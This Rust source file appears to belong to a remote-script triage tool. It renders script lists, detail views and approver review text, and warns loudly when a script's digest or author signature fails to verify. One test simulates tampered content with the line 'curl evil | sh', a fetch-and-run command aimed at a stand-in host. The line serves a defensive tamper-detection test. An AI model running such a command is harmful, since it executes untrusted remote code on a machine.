//! Scripts: `script list`, `script show`, and the run lines `tickets show`
//! shares. The show view checks the script locally (digest and author
//! signature) and puts a loud warning first when either fails, because an
//! approver reads this view to decide.

use crate::approve::Review;
use crate::run_view::seconds;
use crate::text::{age, relative, safe_text, table};
use crate::ticket_ref::short_uuid;
use serde::Serialize;
use std::fmt::Write as _;
use std::time::Duration;
use triage_shared::approval::{ManifestHash, ScriptDigest, SignedApproval};
use triage_shared::protocol::{ScriptDetail, ScriptSummary};
use triage_shared::remote::ScriptRunRecord;
use triage_shared::text::clean;
use triage_shared::ticket::Ticket;
use triage_shared::time::{human_duration, Timestamp};
use triage_shared::AgentId;

/// What `script show` checked locally.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct ScriptChecks {
    /// The content's SHA-256 is the digest in the manifest.
    pub digest_ok: bool,
    /// The author's signature over the manifest verifies.
    pub author_signature_ok: bool,
}

impl ScriptChecks {
    pub fn of(detail: &ScriptDetail) -> Self {
        ScriptChecks {
            digest_ok: ScriptDigest::of(&detail.content) == detail.script.manifest.digest,
            author_signature_ok: detail.script.signature_valid(),
        }
    }
}

/// `script show --json`: the relay's [`ScriptDetail`] fields (`script`,
/// `content` as an array of bytes, `approvals`, `runs`), plus
/// `content_text` (the content as lossy UTF-8), `digest_ok` and
/// `author_signature_ok`.
#[derive(Debug, Serialize)]
pub struct ScriptShowJson<'a> {
    #[serde(flatten)]
    pub detail: &'a ScriptDetail,
    pub content_text: String,
    #[serde(flatten)]
    pub checks: ScriptChecks,
}

impl<'a> ScriptShowJson<'a> {
    pub fn new(detail: &'a ScriptDetail) -> Self {
        ScriptShowJson {
            detail,
            content_text: String::from_utf8_lossy(&detail.content).into_owned(),
            checks: ScriptChecks::of(detail),
        }
    }
}

/// `script list`.
pub fn script_table(scripts: &[ScriptSummary], now: Timestamp, width: usize) -> String {
    if scripts.is_empty() {
        return "No scripts on this ticket; attach one with `triage script attach TICKET FILE`.\n"
            .into();
    }
    let rows: Vec<Vec<String>> = scripts
        .iter()
        .map(|s| {
            vec![
                short_uuid(&s.script_id.0),
                s.interpreter.to_string(),
                s.author.clone(),
                s.live_approvals.to_string(),
                s.runs.to_string(),
                age(s.created_at, now),
                s.description.clone(),
            ]
        })
        .collect();
    table(
        &[
            "ID",
            "INTERP",
            "AUTHOR",
            "APPROVALS",
            "RUNS",
            "AGE",
            "DESCRIPTION",
        ],
        &rows,
        width,
    )
}

/// `script show`: warnings, manifest, approvals, runs, then the text.
pub fn script_detail(detail: &ScriptDetail, now: Timestamp) -> String {
    let m = &detail.script.manifest;
    let checks = ScriptChecks::of(detail);
    let mut out = String::new();
    if !checks.digest_ok {
        let _ = writeln!(
            out,
            "!!! WARNING: the content is {}, not the digest its author signed; it was changed after signing. Do not approve or run it.",
            ScriptDigest::of(&detail.content)
        );
    }
    if !checks.author_signature_ok {
        let _ = writeln!(
            out,
            "!!! WARNING: the author's signature does not verify; the script or its details were changed after signing. Do not approve or run it."
        );
    }
    if !(checks.digest_ok && checks.author_signature_ok) {
        out.push('\n');
    }
    let field = |out: &mut String, name: &str, value: &str| {
        let _ = writeln!(out, "{name:<12} {value}");
    };
    field(&mut out, "Script", &m.script_id.to_string());
    field(&mut out, "Ticket", &m.ticket_id.to_string());
    field(
        &mut out,
        "Author",
        &format!("{} ({})", clean(&m.author), m.author_key),
    );
    field(&mut out, "Interpreter", m.interpreter.as_str());
    field(
        &mut out,
        "Timeout",
        &human_duration(Duration::from_secs(m.timeout_secs)),
    );
    field(
        &mut out,
        "Created",
        &format!("{} ({})", m.created_at, relative(m.created_at, now)),
    );
    field(&mut out, "Digest", &m.digest.to_string());
    field(&mut out, "Runs on", &targets(&m.targets));
    field(&mut out, "Manifest", &detail.script.hash().to_string());
    let description = if m.description.is_empty() {
        "-".to_string()
    } else {
        clean(&m.description)
    };
    field(&mut out, "Description", &description);

    out.push_str("\nApprovals\n");
    if detail.approvals.is_empty() {
        out.push_str("  (none; an approver who is not the author runs `triage script approve TICKET SCRIPT`)\n");
    }
    let manifest = detail.script.hash();
    for a in &detail.approvals {
        out.push_str(&approval_line(a, &manifest, now));
    }

    out.push_str("\nRuns\n");
    if detail.runs.is_empty() {
        out.push_str("  (none)\n");
    }
    for r in &detail.runs {
        let _ = writeln!(out, "  {}", run_line(r));
    }

    let _ = writeln!(out, "\n--- script ({} bytes) ---", detail.content.len());
    let text = safe_text(&detail.content);
    out.push_str(&text);
    if !text.is_empty() && !text.ends_with('\n') {
        out.push('\n');
    }
    out.push_str("--- end of script ---\n");
    out
}

fn targets(agents: &[AgentId]) -> String {
    match agents {
        [one] => format!("agent {one}"),
        many => format!("{} agents", many.len()),
    }
}

/// What an approver reads before `triage script approve` signs: the whole
/// text, everything the signature will cover, and which endpoint it runs on
/// (from the author's signed manifest; the host name is the relay's word).
pub fn approval_review(
    detail: &ScriptDetail,
    ticket: &Ticket,
    review: &Review,
    expires_at: Timestamp,
) -> String {
    let m = &detail.script.manifest;
    let mut out = String::new();
    let field = |out: &mut String, name: &str, value: &str| {
        let _ = writeln!(out, "{name:<12} {value}");
    };
    out.push_str(
        "You are about to approve this script to run ONCE, as root, on one endpoint.

",
    );
    field(
        &mut out,
        "Ticket",
        &format!("{} {}", short_uuid(&ticket.id.0), clean(&ticket.title)),
    );
    let host = match (&ticket.hostname, ticket.agent_id) {
        (Some(h), Some(a)) if a == review.target => format!(" (the relay calls it {})", clean(h)),
        _ => " (not the ticket's agent as the relay reports it: check this!)".to_string(),
    };
    field(
        &mut out,
        "Runs on",
        &format!("agent {}{host}", review.target),
    );
    field(
        &mut out,
        "Author",
        &format!(
            "{} ({}; on roster version {} as {})",
            clean(&m.author),
            m.author_key,
            review.roster_version,
            review
                .author
                .roles
                .iter()
                .map(|r| r.as_str())
                .collect::<Vec<_>>()
                .join(",")
        ),
    );
    field(&mut out, "Interpreter", m.interpreter.as_str());
    field(
        &mut out,
        "Timeout",
        &human_duration(Duration::from_secs(m.timeout_secs)),
    );
    let description = if m.description.is_empty() {
        "-".to_string()
    } else {
        clean(&m.description)
    };
    field(&mut out, "Description", &description);
    field(&mut out, "Digest", &m.digest.to_string());
    field(&mut out, "Valid until", &expires_at.to_string());
    let _ = writeln!(
        out,
        "
--- script ({} bytes) ---",
        detail.content.len()
    );
    let text = safe_text(&detail.content);
    out.push_str(&text);
    if !text.is_empty() && !text.ends_with('\n') {
        out.push('\n');
    }
    out.push_str("--- end of script ---\n");
    out
}

fn approval_line(s: &SignedApproval, manifest: &ManifestHash, now: Timestamp) -> String {
    let a = &s.approval;
    let when = if a.expires_at <= now {
        format!("expired {}", relative(a.expires_at, now))
    } else {
        format!(
            "valid until {} ({})",
            a.expires_at,
            relative(a.expires_at, now)
        )
    };
    let mut line = format!("  {}  {when}", clean(&a.approver));
    if !s.signature_valid() {
        line.push_str("  (signature does not verify)");
    }
    if a.manifest_hash != *manifest {
        line.push_str("  (for another version of the script)");
    }
    line.push('\n');
    line
}

/// One run, as `script show` and `tickets show` list it.
pub fn run_line(r: &ScriptRunRecord) -> String {
    let result = match (&r.outcome, &r.refusal) {
        (Some(o), _) => {
            let mut s = match o.exit_code {
                Some(code) => format!("exit code {code} in {}", seconds(o.duration_ms)),
                None => format!("killed after {}", seconds(o.duration_ms)),
            };
            if o.timed_out {
                s.push_str(", timed out");
            }
            if o.truncated {
                let _ = write!(s, ", output truncated ({} bytes produced)", o.output_bytes);
            }
            s
        }
        (None, Some(reason)) => format!("refused: {}", clean(reason)),
        (None, None) => "no result recorded".into(),
    };
    format!(
        "{}  script {}  by {}  {result}",
        r.started_at,
        short_uuid(&r.script_id.0),
        clean(&r.requested_by)
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use triage_shared::approval::{Approval, Interpreter, Nonce, ScriptId, ScriptManifest};
    use triage_shared::identity::KeyPair;
    use triage_shared::remote::{RunId, RunOutcome};
    use triage_shared::TicketId;

    const NOW: Timestamp = Timestamp(1_709_210_096_000);
    const HOUR: i64 = 3_600_000;

    fn detail() -> (ScriptDetail, KeyPair) {
        let author = KeyPair::generate();
        let content = b"#!/bin/sh\nsystemctl restart cups\n".to_vec();
        let script = ScriptManifest {
            script_id: "aaaa1111-0000-4000-8000-000000000001".parse().unwrap(),
            ticket_id: TicketId::new_random(),
            digest: ScriptDigest::of(&content),
            interpreter: Interpreter::Sh,
            timeout_secs: 300,
            author: "alice".into(),
            author_key: author.public_key(),
            description: "restart the print spooler".into(),
            created_at: Timestamp(NOW.0 - HOUR),
            targets: vec![AgentId::new_random()],
        }
        .sign(&author);
        let approver = KeyPair::generate();
        let approval = Approval {
            manifest_hash: script.hash(),
            script_id: script.manifest.script_id,
            ticket_id: script.manifest.ticket_id,
            approved_at: NOW,
            expires_at: Timestamp(NOW.0 + 2 * HOUR),
            nonce: Nonce::generate(),
            approver: "carol".into(),
            approver_key: approver.public_key(),
        }
        .sign(&approver);
        let run = ScriptRunRecord {
            run_id: RunId::new_random(),
            script_id: script.manifest.script_id,
            requested_by: "alice".into(),
            started_at: NOW,
            outcome: Some(RunOutcome {
                exit_code: Some(0),
                timed_out: false,
                duration_ms: 1_500,
                output_bytes: 5,
                truncated: false,
            }),
            refusal: None,
            output: "done\n".into(),
        };
        let d = ScriptDetail {
            script,
            content,
            approvals: vec![approval],
            runs: vec![run],
        };
        (d, author)
    }

    #[test]
    fn show_lists_manifest_approvals_runs_and_the_text() {
        let (d, _) = detail();
        let out = script_detail(&d, NOW);
        for needle in [
            "Script       aaaa1111-0000-4000-8000-000000000001",
            "Interpreter  sh",
            "Timeout      5m",
            &format!("Digest       {}", d.script.manifest.digest),
            "Description  restart the print spooler",
            "carol  valid until",
            "(in 2h)",
            "script aaaa1111  by alice  exit code 0 in 1.5s",
            "--- script (33 bytes) ---\n#!/bin/sh\nsystemctl restart cups\n--- end of script ---\n",
        ] {
            assert!(out.contains(needle), "missing {needle:?} in\n{out}");
        }
        assert!(!out.contains("WARNING"), "{out}");
    }

    #[test]
    fn changed_content_gets_a_loud_warning_first() {
        let (mut d, _) = detail();
        d.content = b"curl evil | sh\n".to_vec();
        let out = script_detail(&d, NOW);
        assert!(
            out.starts_with("!!! WARNING: the content is sha256:"),
            "{out}"
        );
        assert!(
            out.contains("(for another version of the script)") || out.contains("carol"),
            "{out}"
        );
        let checks = ScriptChecks::of(&d);
        assert_eq!(
            (checks.digest_ok, checks.author_signature_ok),
            (false, true)
        );
    }

    #[test]
    fn a_bad_author_signature_gets_a_loud_warning_first() {
        let (mut d, _) = detail();
        d.script.manifest.timeout_secs = 6 * 3600;
        let out = script_detail(&d, NOW);
        assert!(
            out.starts_with("!!! WARNING: the author's signature does not verify"),
            "{out}"
        );
        assert!(!ScriptChecks::of(&d).author_signature_ok);
    }

    #[test]
    fn expired_and_forged_approvals_are_marked() {
        let (mut d, _) = detail();
        d.approvals[0].approval.expires_at = Timestamp(NOW.0 - HOUR);
        let out = script_detail(&d, NOW);
        assert!(out.contains("carol  expired 1h ago"), "{out}");
        assert!(out.contains("(signature does not verify)"), "{out}");
    }

    #[test]
    fn script_text_cannot_drive_the_terminal() {
        let (mut d, author) = detail();
        d.content = b"echo \x1b[2J\r\n\tdone".to_vec();
        d.script.manifest.digest = ScriptDigest::of(&d.content);
        d.script = d.script.manifest.clone().sign(&author);
        let out = script_detail(&d, NOW);
        assert!(out.contains("echo ?[2J\n\tdone\n--- end"), "{out}");
        assert!(!out
            .chars()
            .any(|c| c.is_control() && c != '\n' && c != '\t'));
    }

    #[test]
    fn json_adds_the_local_checks_and_the_text() {
        let (d, _) = detail();
        let v = serde_json::to_value(ScriptShowJson::new(&d)).unwrap();
        assert_eq!(v["digest_ok"], true);
        assert_eq!(v["author_signature_ok"], true);
        assert_eq!(v["content_text"], "#!/bin/sh\nsystemctl restart cups\n");
        assert_eq!(v["script"]["manifest"]["interpreter"], "sh");
        assert_eq!(v["approvals"][0]["approval"]["approver"], "carol");
        assert_eq!(v["runs"][0]["outcome"]["exit_code"], 0);
    }

    #[test]
    fn run_lines_say_how_each_run_ended() {
        let (d, _) = detail();
        let mut r = d.runs[0].clone();
        r.outcome = Some(RunOutcome {
            exit_code: None,
            timed_out: true,
            duration_ms: 60_000,
            output_bytes: 2_000_000,
            truncated: true,
        });
        let line = run_line(&r);
        assert!(
            line.ends_with(
                "killed after 60.0s, timed out, output truncated (2000000 bytes produced)"
            ),
            "{line}"
        );
        r.outcome = None;
        r.refusal = Some("the approval expired\u{1b}".into());
        assert!(run_line(&r).ends_with("refused: the approval expired?"));
    }

    #[test]
    fn the_list_shows_short_ids_and_counts() {
        let (d, _) = detail();
        let m = &d.script.manifest;
        let s = ScriptSummary {
            script_id: ScriptId(m.script_id.0),
            ticket_id: m.ticket_id,
            author: "alice".into(),
            interpreter: Interpreter::Bash,
            digest: m.digest,
            description: "restart".into(),
            created_at: Timestamp(NOW.0 - 2 * HOUR),
            live_approvals: 1,
            runs: 0,
        };
        let out = script_table(&[s], NOW, 120);
        assert!(
            out.contains("aaaa1111  bash    alice   1          0     2h   restart"),
            "{out}"
        );
        assert!(script_table(&[], NOW, 80).contains("triage script attach"));
    }
}
